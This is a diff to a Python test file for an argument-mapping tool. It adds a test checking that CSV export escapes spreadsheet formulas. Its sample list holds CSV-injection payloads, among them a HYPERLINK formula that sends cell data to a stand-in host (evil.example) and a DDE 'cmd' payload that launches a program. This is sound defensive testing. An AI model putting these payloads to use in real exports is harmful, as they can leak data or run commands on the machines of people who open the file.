@@ -17,7 +17,7 @@ import pytest
 from argmap import api
 from argmap.config import Settings
 from argmap.render.argdown import to_argdown
-from argmap.render.export import CSV_COLUMNS, EXPORT_FORMATS, keep_confident, to_dot, to_graphml, to_markdown
+from argmap.render.export import CSV_COLUMNS, EXPORT_FORMATS, keep_confident, to_csv, to_dot, to_graphml, to_markdown
 
 
 def _text(settings: Settings, format: str) -> str:
@@ -113,6 +113,39 @@ def test_export_csv_has_units_and_relations(kialo_settings: Settings) -> None:
     assert sum(r["record"] == "unit" for r in rows) == 6 and sum(r["record"] == "relation" for r in rows) == 6
     units = {r["id"] for r in rows if r["record"] == "unit"}
     assert all(r["source"] in units and r["target"] in units for r in rows if r["record"] == "relation")
+
+
+#: Cells a spreadsheet would run as formulas (OWASP "CSV injection"): each must come back as text, ``'`` first.
+FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                 "\t=1+1", "\r=1+1"]
+
+
+def test_export_csv_neutralises_formulas_in_text_cells(kialo_settings: Settings) -> None:
+    data = api.graph_data(settings=kialo_settings)
+    hostile = {u.id: text for u, text in zip(data.units, FORMULA_CELLS, strict=False)}
+    units = [u.model_copy(update={"text": hostile[u.id], "topics": [hostile[u.id], "cars"], "reason": "=reason"})
+             if u.id in hostile else u for u in data.units]
+    posts = [p.model_copy(update={"author": "@author"}) for p in data.posts]
+    # a negative number in a numeric column stays a number (no relation has one, but the column must not care)
+    relations = [r.model_copy(update={"confidence": -0.25 if n == 0 else r.confidence, "model": "+model"})
+                 for n, r in enumerate(data.relations)]
+    data = data.model_copy(update={"units": units, "posts": posts, "relations": relations})
+    rows = list(csv.DictReader(io.StringIO(to_csv(data))))
+    unit_rows = {r["id"]: r for r in rows if r["record"] == "unit"}
+    for unit in units:
+        row = unit_rows[unit.id]
+        if unit.id in hostile:
+            assert row["text"] == "'" + hostile[unit.id]
+            assert row["topics"] == f"'{hostile[unit.id]}; cars" and row["reason"] == "'=reason"
+        else:
+            assert row["text"] == unit.text and not row["text"].startswith("'")  # plain text is left as it is
+        assert row["author"] == "'@author" and float(row["confidence"]) == unit.confidence
+    relation_rows = [r for r in rows if r["record"] == "relation"]
+    assert [r["confidence"] for r in relation_rows] == [str(r.confidence) for r in relations]
+    assert relation_rows[0]["confidence"] == "-0.25"
+    assert all(r["model"] == "'+model" for r in relation_rows)
+    sources = {r["id"]: r["text"] for r in rows if r["record"] == "unit"}
+    assert all(r["text"] == sources[r["source"]] for r in relation_rows)  # the source's text, neutralised alike
 
 
 def test_export_aif_has_the_aifdb_shape(kialo_settings: Settings) -> None:
